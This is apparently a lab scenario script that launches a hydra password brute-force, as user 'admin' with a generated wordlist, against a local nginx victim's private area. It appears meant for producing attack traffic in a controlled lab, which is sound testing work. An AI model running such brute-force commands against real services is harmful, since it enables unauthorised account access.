# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-hydra
# needs: hydra nginx
# seconds: 60
# Passwords of a private area by hydra.
. $lab/victims.sh

servers() {
	_port=$(choose 80 8080)
	victim_site b "$_port"
	words_up "$(pick 100 300)"
}

scenario() {
	cd "$work" || return
	_tasks=$(choose 1 4 16)
	_pause=$(choose "" "" "-c 1")
	[ -z "$_pause" ] || _tasks=1
	setting options "-t $_tasks $_pause port $_port"
	attack t b tcp "$_port" -- timeout 50 hydra -I -t "$_tasks" $_pause -l admin \
		-P "$work/words" \
		-s "$_port" "$(addr b)" http-get /private/
}
